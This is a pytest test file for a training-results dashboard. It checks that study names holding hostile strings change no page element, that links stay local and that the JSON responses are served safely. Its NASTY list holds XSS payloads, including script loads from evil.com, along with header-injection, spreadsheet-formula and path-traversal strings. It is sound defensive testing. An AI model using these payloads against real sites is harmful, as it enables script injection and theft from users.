"""Every page and its JSON with hostile names in every place of the store: the same elements as with harmless ones."""

import dataclasses
import html
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from starlette.testclient import TestClient

from cells.training.point import Point
from results.dashboard import render
from results.dashboard.chart import bars, chart, line, points
from results.dashboard.view import View
from results.dashboard.views import STORE_VIEWS, STUDY_VIEWS
from results.record.ask import Ask, Cause, Rejection, Role
from results.record.outcome import Cost, Ending, Outcome
from results.record.store import Store
from results.record.strike import Blame, Kind, Strike
from tests.results import synthetic
from tests.results.dashboard.served import over
from tests.results.report.test_report import EVIL

NASTY = (
    *EVIL,
    "</script >",
    "</SCRIPT><!--<script>",
    "<!--<script>alert(1)</script>-->",
    "<script/src=//evil.com/x.js>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x><embed src=x>",
    "<base href=//evil.com/><meta http-equiv=refresh content='0;url=//evil.com'>",
    "<link rel=stylesheet href=//evil.com/x.css>",
    "<form action=//evil.com><button formaction=//evil.com>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href=https://evil.com>here</a><b>bold</b><sup>up</sup><br>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><p></template><plaintext>",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "</p></main></body></html>",
    "</select></option></dl></form></td></tr>",
    "&#60;img src=x&#62;&#x3c;b&#x3e;&lt;i",
    "&amp;lt;script&amp;gt;",
    "<",
    ">",
    '"',
    "'",
    "`",
    "&",
    "\\",
    "\\u003cscript\\u003e",
    "=cmd|' /C calc'!A0",
    "{%22x%22: 1}",
    "%{customdata[0]} %{x:.3f} %{{}}",
    "%3Cscript%3E%00%0d%0aSet-Cookie: a=b",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "../../../etc/passwd",
    "//evil.com/%2e%2e?a=b#c",
    "data:text/html,<script>alert(1)</script>",
    "__proto__",
    "constructor",
    "\ufeff\ufffe\uffff",
    "\u2028\u2029\x85",
    "\U000e0001\U000e0020",
    "ﬁ\u0301\u0327" * 20,
    "مرحبا \u200f\u200e",
    "a" * 3000,
    "NaN",
    "null",
    "",
    " ",
)
TOGETHER = 6
"""Strings that share one place, one after the other: fewer studies, and the first that got out of its
place would change the elements as well."""
WORDS = (
    *("".join(NASTY[place : place + TOGETHER]) for place in range(0, len(NASTY), TOGETHER)),
    "<img src=x onerror=alert(1)>",
)
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
MARKUP = re.compile(
    r"<(?!br>|extra></extra>|/extra>)|(?<!<extra)(?<!</extra)(?<!<br)>|&(?!(amp|lt|gt);)"
)
"""What a chart would draw as a tag or a sign, but for the two tags that our own templates hold."""
HARMLESS = tuple(f"name{place}" for place in range(len(WORDS)))


def fill(path: Path, words: tuple[str, ...]) -> list[str]:
    """Writes a store with a study for each word, which stands in every place for a text; their ids."""
    with Store.create_or_open(path) as store:
        store._connection.execute("PRAGMA synchronous = OFF")  # nothing is lost here
        return [begin(store, word, place) for place, word in enumerate(words)]


def begin(store: Store, word: str, seed: int) -> str:
    plan = dataclasses.replace(synthetic.study().tasks[0], name=word)
    study = dataclasses.replace(synthetic.study(word, seed), tasks=(plan,))
    store.begin(study, {word: word})
    baseline = {"name": word, "metric": word, "value": 1.0, "split": word, "source": word}
    store.add_task(
        name=word,
        scale="smoke",
        version=1,
        digest=word,
        family=word,
        metric="accuracy",
        unit=word,
        floors=[{"name": word, "accuracy": 0.5}],
        baselines=[{**baseline, "comparable": True}],
    )
    gru, lstm = synthetic.BASELINES["gru"], synthetic.BASELINES["lstm"]
    strange = gru[0], f"id{seed} {word}"
    rejections = tuple(
        Rejection(cause, f"id{seed} {word}", word, (word, "insert"), word) for cause in Cause
    )
    asks = [
        (Role.BASELINE, lstm, Ending.OK),
        (Role.BASELINE, gru, Ending.OK),
        (Role.BASELINE, gru, Ending.DIVERGED),
        (Role.SCREEN, strange, Ending.OK),
        (Role.STAGE, strange, Ending.OK),
        (Role.STAGE, strange, Ending.CRASHED),
        (Role.CONFIRM, strange, Ending.OK),
        (Role.STAGE, strange, None),
    ]
    for number, (role, cell, ending) in enumerate(asks):
        trial = synthetic.trial(cell, "alpha", number, seed)
        trial = dataclasses.replace(trial, task=word, task_digest=word)
        if cell is strange:
            trial = dataclasses.replace(trial, cell=word)
        admitted = (cell[1],) if number == 4 else ()
        ask = Ask(number, role, trial, gru[1], (word,), rejections if number == 3 else (), admitted)
        store.add_ask(study.id, ask)
        store.add_attempt(study.id, number, 1, word)
        if ending is not None:
            store.add_outcome(study.id, number, outcome(trial.key, ending, word))
    store.add_event(study.id, word, word)
    store.add_strike(study.id, Strike(7, 1, Kind.DIED, Blame.CELL, word, word, word))
    return study.id


def outcome(key: str, ending: Ending, word: str) -> Outcome:
    if ending != Ending.OK:
        return Outcome(key, ending, detail=word, cost=Cost(1.0, 1.0, 1))
    point = Point(10, 0.5, 1.0, 1.0, 0.5, 1.0, 0.0)
    return Outcome(
        key=key,
        ending=ending,
        detail=word,
        parameters=1000,
        valid_loss=1.0,
        valid_accuracy=0.5,
        test_loss=1.0,
        test_accuracy=0.5,
        curve=(point,),
        cost=Cost(1.0, 1.0, 1),
    )


class Page(HTMLParser):
    """The elements of a page with the names of their attributes, their links, and its blocks of JSON."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.specs: list[Any] = []
        self._inside = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]
        self._inside = ("type", "application/json") in attrs

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.specs.append(json.loads(data))

    def handle_endtag(self, tag: str) -> None:
        self._inside = False


def texts(value: Any) -> Iterator[str]:
    """Every text in a JSON value, keys too, but what a chart only passes on: links."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield key
            if key != "customdata":
                yield from texts(one)
    elif isinstance(value, list):
        for one in value:
            yield from texts(one)


EVERY_VIEW = pytest.mark.parametrize(
    "view", [*STUDY_VIEWS, *STORE_VIEWS], ids=lambda view: view.name or "overview"
)
Stores = tuple[TestClient, list[str], TestClient, list[str]]


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stores]:
    """Clients of a harmless and a hostile store, with the ids of their studies."""
    folder = tmp_path_factory.mktemp("hostile")
    kind, nasty = fill(folder / "a.gate", HARMLESS), fill(folder / "b.gate", WORDS)
    with over(folder / "a.gate") as harmless, over(folder / "b.gate") as hostile:
        yield harmless, kind, hostile, nasty


def outside_drawings(text: str) -> str:
    # The length of a name moves what a drawing draws; the page around it must not change.
    return re.sub(r"<svg.*?</svg>", "", text, flags=re.DOTALL)


def addresses(view: View, study: str, cell: str) -> tuple[str, str]:
    """The page of a view and its JSON."""
    if view in STORE_VIEWS:
        return f"/{view.name}", f"/api/{view.name}"
    end = f"/{view.name}" if view.name else ""
    end += f"/{quote(cell, safe='')}" if view.named else ""
    place = f"/studies/{quote(study, safe='')}"
    return place + end, f"/api{place}{end or '/overview'}"


def cell_of(place: int, words: tuple[str, ...]) -> str:
    return f"id{place} {words[place]}"


@EVERY_VIEW
def test_hostile_names_change_no_element_of_any_page(stores: Stores, view: View) -> None:
    harmless, kind, hostile, nasty = stores
    seen = 0
    for place in range(len(WORDS)):
        plain = harmless.get(addresses(view, kind[place], cell_of(place, HARMLESS))[0])
        assert plain.status_code == 200
        address = addresses(view, nasty[place], cell_of(place, WORDS))[0]
        if "%2F" in address:
            continue  # a cell whose name holds a slash has no page of its own
        answer = hostile.get(address)
        assert answer.status_code == 200, (WORDS[place], answer.text)
        page = Page(outside_drawings(answer.text))
        assert page.elements == Page(outside_drawings(plain.text)).elements, WORDS[place]
        assert not UNSEEN.search(answer.text)
        for link in page.links:
            assert re.match(r"(?:\.\.?/)+(?!/)|[?#]|data:,$", link), link
        for text in texts([one for one in page.specs if "layout" in one]):
            assert not MARKUP.search(text), text
        seen += 1
    assert seen


@EVERY_VIEW
def test_hostile_names_are_served_as_json_that_no_browser_takes_for_a_page(
    stores: Stores, view: View
) -> None:
    _, _, hostile, nasty = stores
    for place in range(len(WORDS)):
        address = addresses(view, nasty[place], cell_of(place, WORDS))[1]
        if "%2F" in address:
            continue
        answer = hostile.get(address)
        assert answer.status_code == 200
        assert answer.headers["Content-Type"] == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        answer.json(parse_constant=pytest.fail)


def test_an_id_that_no_search_writes_is_called_damaged_and_changes_no_element(
    tmp_path: Path,
) -> None:
    elements: list[object] = []
    for number, forged in enumerate(("name", "<img src=x onerror=alert(1)>")):
        path = tmp_path / f"{number}.gate"
        with Store.create_or_open(path) as store:
            begin(store, "kind", 1)
            # No search writes such an id; somebody else may.
            row = "INSERT INTO study SELECT ?, name, strategy, description FROM study LIMIT 1"
            store._connection.execute(row, (forged,))
            row = "INSERT INTO epoch SELECT max(number) + 1, ?, min(at) FROM epoch"
            store._connection.execute(row, (forged,))
        with over(path) as client:
            first = client.get("/", follow_redirects=False)
            assert unquote(first.headers["Location"]) == f"studies/{forged}"
            answer = client.get(addresses(STUDY_VIEWS[0], forged, "")[0])
            assert answer.status_code == 503
            assert f"study {html.escape(forged)} does not have the checksum" in answer.text
            assert "<img" not in answer.text
            elements.append(Page(answer.text).elements)
    assert elements[0] == elements[1]


@pytest.mark.parametrize("word", NASTY)
def test_a_chart_shows_a_hostile_text_as_text(word: str) -> None:
    traces = [
        bars([word], [1.0], name=word),
        points(word, [1.0], [1.0], "blue", text=[word], links=["/"]),
        line(word, [1.0], [1.0], "blue"),
    ]
    spec = chart(traces, word, word)
    block = render._spec(spec)
    assert not re.search("[<>&]", block)
    assert json.loads(block) == spec
    for text in texts(spec):
        assert not MARKUP.search(text)
